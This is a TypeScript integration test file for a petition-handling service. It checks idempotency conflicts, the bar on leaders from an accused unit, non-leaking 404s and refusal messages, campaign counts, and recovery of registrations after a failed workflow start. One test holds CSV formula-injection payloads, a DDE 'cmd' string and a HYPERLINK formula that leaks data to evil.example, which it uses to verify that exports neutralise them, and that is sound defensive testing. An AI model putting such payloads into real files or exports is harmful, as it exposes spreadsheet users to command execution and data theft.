/**
 * What the probe of issue 20 sent (items 3, 4, 7 and part of 11), sent again over HTTP through the
 * production API and worker, checking the answer and what was (or was not) recorded:
 *   - a request id reused for another action, unit or user: 409 idempotencyConflict, nothing changes;
 *     an Idempotency-Key is the registering office's own;
 *   - 包案 leaders: never of the accused unit (403 protectedParty, recorded), never of another county
 *     or level, on a case and in a campaign;
 *   - refusals name the field, never the id the client typed;
 *   - a campaign's count never betrays an accusation to its accused unit;
 *   - every CSV export neutralises formula cells (hostile unit and leader names);
 *   - a registration whose workflow could not start keeps its intake and number for the retry;
 *   - the accused unit's 404 is the missing case's 404, byte for byte, after the same single statement.
 */
import { parse } from 'csv-parse/sync';
import { randomUUID } from 'node:crypto';
import request from 'supertest';
import { DataSource } from 'typeorm';
import { createApiApp } from '../../apps/api/src/bootstrap';
import { PetitionAccessService } from '../../apps/api/src/petitions/petition-access.service';
import type { AuthenticatedUser } from '../../apps/api/src/auth/authenticated-user';
import { staffBearer } from '../support/auth';
import { useRunningService } from '../support/harness';

const DAY = 86_400_000;
const FORMULA_START = /^[=+\-@\t\r]/;

describe('request ids, case leaders, exports and hidden cases: what the probe sent', () => {
  const service = useRunningService();
  let http: ReturnType<typeof request>;
  beforeAll(() => {
    http = request(service.app.getHttpServer());
  });

  function expectStatus(response: request.Response, status: number): request.Response {
    if (response.status !== status)
      throw new Error(`expected ${status}, got ${response.status}: ${JSON.stringify(response.body)}`);
    return response;
  }
  async function register(
    user: string,
    body: Record<string, unknown> = {},
    key = `probe-${randomUUID()}`,
  ): Promise<request.Response> {
    return http
      .post('/petitions')
      .set('Authorization', staffBearer(user))
      .set('Idempotency-Key', key)
      .send({
        category: 'appeal',
        channel: 'letter',
        petitionerName: '钱某',
        summary: '物业维修基金使用不透明',
        receivedAt: new Date(Date.now() - DAY).toISOString(),
        ...body,
      });
  }
  const act = (
    user: string,
    petitionId: string,
    action: string,
    args: Record<string, unknown>,
    requestId: string = randomUUID(),
  ) =>
    http
      .post(`/petitions/${petitionId}/actions/${action}`)
      .set('Authorization', staffBearer(user))
      .send({ requestId, args });
  const timeline = async (petitionId: string) =>
    (await service.dataSource.query(
      `SELECT seq, type, request_id FROM petition_events WHERE petition_id = $1 ORDER BY seq`,
      [petitionId],
    )) as { seq: number; type: string; request_id: string | null }[];
  async function projected(petitionId: string, revision: number): Promise<void> {
    for (let i = 0; i < 150; i++) {
      const rows = await service.dataSource.query(`SELECT revision FROM petitions WHERE id = $1`, [petitionId]);
      if (rows[0] && Number(rows[0].revision) >= revision) return;
      await new Promise((r) => setTimeout(r, 100));
    }
    throw new Error(`petition ${petitionId} never reached revision ${revision}`);
  }

  it('a requestId already applied on the case, reused for a decline, an accept, a route elsewhere or by another user: 409 idempotencyConflict naming the route, and the case unchanged', async () => {
    const { petitionId } = expectStatus(await register('x-registrar'), 201).body;
    const routed = expectStatus(
      await act('x-registrar', petitionId, 'route', { unitId: 'x-zjj' }, 'probe-route-1'),
      200,
    ).body;
    await projected(petitionId, routed.revision);
    const before = await timeline(petitionId);

    expect(
      expectStatus(await act('x-registrar', petitionId, 'route', { unitId: 'x-zjj' }, 'probe-route-1'), 200).body
        .revision,
    ).toBe(routed.revision);
    for (const [user, action, args] of [
      ['x-handler', 'decline', { reason: '不属于本单位职责' }],
      ['x-handler', 'accept', {}],
      ['x-registrar', 'route', { unitId: 'x-jw' }],
      ['x-supervisor', 'route', { unitId: 'x-zjj' }],
    ] as [string, string, Record<string, unknown>][]) {
      const refused = expectStatus(await act(user, petitionId, action, args, 'probe-route-1'), 409).body;
      expect(refused).toMatchObject({
        statusCode: 409,
        code: 'idempotencyConflict',
        detail: expect.stringMatching(/requestId was already used on this case for .*"route"/),
      });
    }
    const shown = expectStatus(
      await http.get(`/petitions/${petitionId}`).set('Authorization', staffBearer('x-registrar')),
      200,
    ).body;
    expect(shown.live).toMatchObject({ step: 'acceptance', handlingUnitId: 'x-zjj', revision: routed.revision });
    expect(await timeline(petitionId)).toEqual(before);
  });

  it("an Idempotency-Key belongs to its office: the same key from another county registers that county's own petition", async () => {
    const key = `shared-${randomUUID()}`;
    const body = { receivedAt: new Date(Date.now() - DAY).toISOString() };
    const x = expectStatus(await register('x-registrar', body, key), 201).body;
    const y = expectStatus(await register('y-registrar', body, key), 201).body;
    expect(y).toMatchObject({ created: true });
    expect(y.petitionId).not.toBe(x.petitionId);
    const rows = await service.dataSource.query(
      `SELECT registering_unit_id FROM petition_intakes WHERE idempotency_key = $1 ORDER BY registering_unit_id`,
      [key],
    );
    expect(rows.map((r: { registering_unit_id: string }) => r.registering_unit_id)).toEqual(['x-xfj', 'y-xfj']);
    // Each office's retry finds its own petition.
    expect(expectStatus(await register('y-registrar', body, key), 201).body).toMatchObject({
      petitionId: y.petitionId,
      created: false,
    });
  });

  it("包案 on an accusation against 县住建局: its leader is refused (403 protectedParty, on the ledger and the timeline); another county's or level's leader is refused; nothing is assigned", async () => {
    const { petitionId } = expectStatus(
      await register('x-registrar', {
        category: 'accusation',
        accusedUnitId: 'x-zjj',
        summary: '检举县住建局挪用维修基金',
      }),
      201,
    ).body;
    expectStatus(await act('x-registrar', petitionId, 'route', { unitId: 'x-jw' }), 200);

    const accused = expectStatus(
      await act(
        'x-supervisor',
        petitionId,
        'assignCaseLeader',
        { leaderUserId: 'x-leader', resolutionDays: 30 },
        'probe-leader',
      ),
      403,
    ).body;
    expect(accused).toMatchObject({
      code: 'protectedParty',
      field: 'args.leaderUserId',
      detail: expect.stringMatching(/a leader of the accused unit/),
    });
    const otherCounty = expectStatus(
      await act('x-supervisor', petitionId, 'assignCaseLeader', { leaderUserId: 'y-leader', resolutionDays: 30 }),
      403,
    ).body;
    expect(otherCounty).toMatchObject({
      code: 'wrongUnit',
      field: 'args.leaderUserId',
      detail: expect.stringMatching(/not over the case at the county level/),
    });
    const otherLevel = expectStatus(
      await act('x-supervisor', petitionId, 'assignCaseLeader', { leaderUserId: 'c-leader', resolutionDays: 30 }),
      403,
    ).body;
    expect(otherLevel).toMatchObject({
      code: 'wrongUnit',
      detail: expect.stringMatching(/needs a county-level leader/),
    });

    const view = expectStatus(
      await http.get(`/petitions/${petitionId}`).set('Authorization', staffBearer('x-supervisor')),
      200,
    ).body;
    expect(view.live.caseLeader).toBeNull();
    await projected(petitionId, view.live.revision);
    expect((await timeline(petitionId)).filter((e) => e.type === 'actionRefused').map((e) => e.request_id)).toEqual([
      'probe-leader',
    ]);
    const ledger = await service.dataSource.query(
      `SELECT rule, unit_id, responsible_user_id FROM accountability_records WHERE petition_id = $1`,
      [petitionId],
    );
    expect(ledger).toEqual([{ rule: 'accusedPartyAccess', unit_id: 'x-xfj', responsible_user_id: 'x-supervisor' }]);
  });

  it('a refusal says which field was wrong, never the unit id the client typed', async () => {
    const { petitionId } = expectStatus(await register('x-registrar'), 201).body;
    const refused = expectStatus(
      await act('x-registrar', petitionId, 'route', { unitId: 'nosuch-secretunit' }),
      400,
    ).body;
    expect(refused).toEqual({
      statusCode: 400,
      code: 'badArgument',
      message: '所选单位不存在。',
      detail: 'unitId: the unit does not exist',
      field: 'args.unitId',
      messageKey: 'args.unknownUnit',
      params: { field: 'unitId' },
    });
    const leader = expectStatus(
      await act('x-supervisor', petitionId, 'assignCaseLeader', {
        leaderUserId: 'nosuch-secretleader',
        resolutionDays: 30,
      }),
      400,
    ).body;
    expect(leader).toMatchObject({ code: 'validation', field: 'args.leaderUserId' });
    expect(JSON.stringify(leader)).not.toContain('secret');
  });

  describe('a campaign of 丙县 with an accusation against 丙县住建局 in it', () => {
    let campaignId = '';
    let accusation = '';
    let appeal = '';
    const today = new Date(Date.now() + 8 * 3_600_000).toISOString().slice(0, 10);
    const write = (user: string, path: string, body: Record<string, unknown>) =>
      http
        .post(`/campaigns/${campaignId}${path}`)
        .set('Authorization', staffBearer(user))
        .send({ requestId: randomUUID(), ...body });

    beforeAll(async () => {
      accusation = expectStatus(
        await register('z-registrar', { category: 'accusation', accusedUnitId: 'z-zjj', summary: '检举丙县住建局' }),
        201,
      ).body.petitionId;
      expectStatus(await act('z-registrar', accusation, 'route', { unitId: 'z-jw' }), 200);
      appeal = expectStatus(await register('z-registrar'), 201).body.petitionId;
      expectStatus(await act('z-registrar', appeal, 'route', { unitId: 'z-zjj' }), 200);
      for (const id of [accusation, appeal]) await projected(id, 2);
      const rules = {
        openLongerThanDays: null,
        repeatPetitions: false,
        reopenedAfterRelapse: false,
        listedForSupervision: true,
        importedBacklog: false,
      };
      const launched = await http
        .post('/campaigns')
        .set('Authorization', staffBearer('z-supervisor'))
        .set('Idempotency-Key', `probe-campaign-${randomUUID()}`)
        .send({
          name: '丙县专项攻坚',
          planRef: '丙县〔2026〕1号',
          startDate: today,
          targetDate: new Date(Date.parse(`${today}T00:00:00Z`) + 60 * DAY).toISOString().slice(0, 10),
          cadenceDays: 7,
          rules,
        });
      campaignId = expectStatus(launched, 201).body.campaignId;
      for (const petitionId of [accusation, appeal])
        expectStatus(await write('z-supervisor', '/cases', { petitionId, reason: '补充交办' }), 200);
    });

    it("the accused unit's count leaves the accusation out, as its list does; the office counts both", async () => {
      const office = expectStatus(
        await http.get(`/campaigns/${campaignId}`).set('Authorization', staffBearer('z-supervisor')),
        200,
      ).body;
      expect(office.caseCount).toBe(office.cases.length);
      expect(office.cases.map((c: { petitionId: string }) => c.petitionId)).toEqual(
        expect.arrayContaining([accusation, appeal]),
      );
      const accusedUnit = expectStatus(
        await http.get(`/campaigns/${campaignId}`).set('Authorization', staffBearer('z-handler')),
        200,
      ).body;
      expect(accusedUnit.cases.map((c: { petitionId: string }) => c.petitionId)).toEqual([appeal]);
      expect(accusedUnit.caseCount).toBe(office.caseCount - 1);
    });

    it("包案 in the campaign: the accused unit's leader is refused (protectedParty), another county's leader is refused, the county's own leads the appeal", async () => {
      const accused = expectStatus(
        await write('z-supervisor', `/cases/${accusation}/leaders`, { level: 'county', leaderUserId: 'z-leader' }),
        403,
      ).body;
      expect(accused).toMatchObject({
        code: 'protectedParty',
        detail: expect.stringMatching(/a leader of the accused unit/),
      });
      const otherCounty = expectStatus(
        await write('z-supervisor', `/cases/${appeal}/leaders`, { level: 'county', leaderUserId: 'y-leader' }),
        403,
      ).body;
      expect(otherCounty).toMatchObject({ code: 'wrongUnit', detail: expect.stringMatching(/not over the case/) });
      const assign = () =>
        http
          .post(`/campaigns/${campaignId}/cases/${appeal}/leaders`)
          .set('Authorization', staffBearer('z-supervisor'))
          .send({ requestId: 'probe-campaign-leader', level: 'county', leaderUserId: 'z-leader' });
      const led = expectStatus(await assign(), 200).body;
      // The campaign's request ids mean one request too: the retry answers, another action reusing the id is refused.
      expect(expectStatus(await assign(), 200).body.revision).toBe(led.revision);
      const reused = await http
        .post(`/campaigns/${campaignId}/cases/${appeal}/progress`)
        .set('Authorization', staffBearer('z-supervisor'))
        .send({ requestId: 'probe-campaign-leader', status: 'resolved', note: '已化解' });
      expect(expectStatus(reused, 409).body).toMatchObject({
        code: 'idempotencyConflict',
        detail: expect.stringMatching(/"assignLeader"/),
      });
      expect(
        led.cases
          .find((c: { petitionId: string }) => c.petitionId === appeal)
          .leaders.map((l: { userId: string }) => l.userId),
      ).toEqual(['z-leader']);
      expect(led.cases.find((c: { petitionId: string }) => c.petitionId === accusation).leaders).toEqual([]);
    });

    it('every CSV export neutralises a hostile unit name and a hostile leader name; the names are restored after', async () => {
      const admin = staffBearer('admin');
      const hostileUnit = "@SUM(1+1)*cmd|' /C calc'!A0";
      const hostileLeader = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")';
      const [unitBefore] = await service.dataSource.query(`SELECT name FROM units WHERE id = 'z-zjj'`);
      const [leaderBefore] = await service.dataSource.query(`SELECT name FROM users WHERE id = 'z-leader'`);
      const csvOf = async (path: string, user: string): Promise<string[][]> => {
        const response = expectStatus(
          await http
            .get(path)
            .set('Authorization', staffBearer(user))
            .buffer(true)
            .parse((res, done) => {
              let text = '';
              res.on('data', (chunk: Buffer) => (text += chunk.toString('utf8')));
              res.on('end', () => done(null, text));
            }),
          200,
        );
        expect(response.headers['content-type']).toMatch(/^text\/csv/);
        return parse(response.body as string, { bom: true });
      };
      try {
        expectStatus(
          await http.patch('/admin/units/z-zjj').set('Authorization', admin).send({ name: hostileUnit }),
          200,
        );
        expectStatus(
          await http.patch('/admin/users/z-leader').set('Authorization', admin).send({ name: hostileLeader }),
          200,
        );
        expectStatus(await write('z-supervisor', '/close', { reason: '阶段结束' }), 200);

        const exports: Record<string, string[][]> = {
          bulletin: await csvOf(`/campaigns/${campaignId}/bulletins/1/csv`, 'z-supervisor'),
        };
        for (const table of ['units', 'registration-levels', 'overdue-units']) {
          exports[table] = await csvOf(
            `/reports/assessment/${table}.csv?from=${today}&to=${today}&unitId=z-zjj&top=50`,
            'z-supervisor',
          );
        }
        const cells = Object.values(exports).flat(2);
        expect(cells.filter((cell) => FORMULA_START.test(cell))).toEqual([]);
        // The column under its (Chinese) header, wherever the table puts it.
        const column = (table: string[][], header: string) => table.map((row) => row[table[0].indexOf(header)]);
        expect(column(exports.bulletin, '对象')).toEqual(
          expect.arrayContaining([`'${hostileUnit}`, `'${hostileLeader}`]),
        );
        expect(column(exports.units, '单位')).toContain(`'${hostileUnit}`);
      } finally {
        await service.dataSource.query(`UPDATE units SET name = $1 WHERE id = 'z-zjj'`, [unitBefore.name]);
        await service.dataSource.query(`UPDATE users SET name = $1 WHERE id = 'z-leader'`, [leaderBefore.name]);
      }
    });
  });

  it('a registration whose workflow Temporal refuses to start keeps its intake and number; the retry with its key starts that case', async () => {
    const refusing = await createApiApp(
      { ...service.config, temporalNamespace: `no-such-namespace-${randomUUID().slice(0, 8)}` },
      { logger: false },
    );
    await refusing.init();
    try {
      const key = `probe-unstarted-${randomUUID()}`;
      const receivedAt = new Date(Date.now() - DAY).toISOString();
      const answer = await request(refusing.getHttpServer())
        .post('/petitions')
        .set('Authorization', staffBearer('x-registrar'))
        .set('Idempotency-Key', key)
        .send({ category: 'appeal', channel: 'letter', petitionerName: '钱某', summary: '未能启动的登记', receivedAt });
      expect(answer.status).toBe(503);
      // What the registrar typed is on record under its number, not lost with the failed start.
      const [kept]: { petition_id: string; case_number: string }[] = await service.dataSource.query(
        `SELECT petition_id, case_number FROM petition_intakes WHERE idempotency_key = $1`,
        [key],
      );
      expect(kept.case_number).toMatch(/^.+〔\d{4}〕第\d{5}号$/);
      // The client comes back through a working API: the same case starts, under the same number.
      const retried = expectStatus(
        await register('x-registrar', { summary: '未能启动的登记', receivedAt }, key),
        201,
      ).body;
      expect(retried).toMatchObject({ petitionId: kept.petition_id, caseNumber: kept.case_number, created: false });
      await projected(kept.petition_id, 1);
      expect(
        await service.dataSource.query(`SELECT count(*)::int AS n FROM petition_intakes WHERE idempotency_key = $1`, [
          key,
        ]),
      ).toEqual([{ n: 1 }]);
    } finally {
      await refusing.close();
    }
  });

  describe("the accused unit's 404 and a missing case's 404", () => {
    let accusation = '';
    beforeAll(async () => {
      accusation = expectStatus(
        await register('x-registrar', { category: 'accusation', accusedUnitId: 'x-zjj', summary: '检举县住建局' }),
        201,
      ).body.petitionId;
      await projected(accusation, 1);
    });

    it('are the same bytes, for the case and its timeline', async () => {
      const missing = randomUUID();
      for (const path of ['', '/timeline', '/available-actions']) {
        const hidden = await http.get(`/petitions/${accusation}${path}`).set('Authorization', staffBearer('x-handler'));
        const none = await http.get(`/petitions/${missing}${path}`).set('Authorization', staffBearer('x-handler'));
        expect([hidden.status, none.status]).toEqual([404, 404]);
        expect(hidden.text.replaceAll(accusation, '<id>')).toBe(none.text.replaceAll(missing, '<id>'));
        expect(hidden.headers['content-length']).toBe(none.headers['content-length']);
      }
    });

    it("come from the same single read-only statement; the accused unit's attempt reaches the ledger and the audit trail after the answer", async () => {
      const statements: string[] = [];
      const observed = Object.create(service.dataSource) as DataSource;
      observed.query = ((sql: string, parameters?: unknown[]) => {
        statements.push(sql);
        return service.dataSource.query(sql, parameters);
      }) as DataSource['query'];
      const access = new PetitionAccessService(observed);
      // A prepared statement (libs/persistence/prepared-query.ts) goes to TypeORM's pool directly.
      const pool = (service.dataSource.driver as unknown as { master: { query: (...args: unknown[]) => unknown } })
        .master;
      const poolQuery = pool.query.bind(pool);
      const poolSpy = jest.spyOn(pool, 'query').mockImplementation((...args: unknown[]) => {
        const config = args[0] as string | { text: string };
        statements.push(typeof config === 'string' ? config : config.text);
        return poolQuery(...args);
      });
      const [row] = await service.dataSource.query(
        `SELECT id, role, unit_id, (SELECT region_path FROM units WHERE id = unit_id) AS region_path FROM users WHERE id = 'x-handler'`,
      );
      const xHandler = {
        id: row.id,
        name: row.id,
        role: row.role,
        unitId: row.unit_id,
        regionPath: row.region_path,
        sessionId: null,
      } as AuthenticatedUser;
      const attempts = async (): Promise<number> =>
        (
          await service.dataSource.query(
            `SELECT count(*)::int AS n FROM accountability_records WHERE petition_id = $1 AND rule = 'accusedPartyAccess'`,
            [accusation],
          )
        )[0].n;
      const before = await attempts();
      const lookup = async (petitionId: string) => {
        statements.length = 0;
        const error = await access.requireVisible(xHandler, petitionId).then(
          () => null,
          (e: Error) => e,
        );
        // What the answer was made of: the statements run until the 404 was thrown.
        const answered = { message: error?.message.replace(petitionId, '<id>'), statements: [...statements] };
        await new Promise((r) => setTimeout(r, 300)); // what the service records after its answer is not part of it
        return answered;
      };

      const hidden = await lookup(accusation);
      const missing = await lookup(randomUUID());
      poolSpy.mockRestore();
      expect(hidden).toEqual(missing);
      expect(hidden.statements).toHaveLength(1);
      expect(hidden.statements[0]).toMatch(/^\s*SELECT /);
      expect(hidden.message).toBe('petition <id> not found');

      let refusedReads: unknown[] = [];
      for (let i = 0; i < 50 && refusedReads.length === 0; i++) {
        refusedReads = await service.dataSource.query(
          `SELECT 1 FROM audit_trail WHERE petition_id = $1 AND actor_user_id = 'x-handler' AND outcome = 'refused' AND detail->>'reason' = 'accusedUnit'`,
          [accusation],
        );
        if (refusedReads.length === 0) await new Promise((r) => setTimeout(r, 100));
      }
      expect(refusedReads.length).toBeGreaterThan(0);
      expect(await attempts()).toBe(before + 1);
    });
  });
});
